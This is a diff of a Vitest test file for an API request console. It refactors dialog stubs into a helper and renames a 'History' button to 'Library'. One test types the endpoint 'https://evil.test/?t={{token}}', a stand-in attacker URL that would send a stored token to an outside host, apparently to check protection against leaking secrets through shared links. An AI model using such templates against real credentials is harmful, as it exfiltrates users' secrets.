@@ -3,9 +3,10 @@ import { beforeEach, describe, expect, it, vi } from 'vitest'
 import { rowsOf } from './draft/field-rows'
 import { type RequestDraft, startingDraft } from './draft/request-draft'
 import { writeRequestLink } from './link/request-link'
-import { answering, cleanUp, field, open, panel, submit, type } from './testing/console'
+import { answering, cleanUp, field, open, panel, stubDialogs, submit, type } from './testing/console'
 
 cleanUp()
+stubDialogs()
 
 const environments = (rows: Record<string, string>) =>
   localStorage.setItem(
@@ -14,14 +15,8 @@ const environments = (rows: Record<string, string>) =>
   )
 
 beforeEach(() => {
-  // jsdom has no modal dialogs and no layout.
+  // jsdom has no layout.
   Element.prototype.checkVisibility = () => true
-  HTMLDialogElement.prototype.showModal = function (this: HTMLDialogElement) {
-    this.open = true
-  }
-  HTMLDialogElement.prototype.close = function (this: HTMLDialogElement) {
-    this.open = false
-  }
   environments({ token: 's3cret', base: 'https://api.test' })
 })
 
@@ -84,7 +79,7 @@ describe('a request from a link', () => {
     submit()
     await waitFor(() => expect(localStorage.getItem('mockman.history')).toContain('"link"'))
     press('Undo')
-    press('History')
+    press('Library')
     fireEvent.click(await screen.findByRole('button', { name: /evil\.test/ }))
     type('Endpoint', 'https://evil.test/?t={{token}}')
     submit()
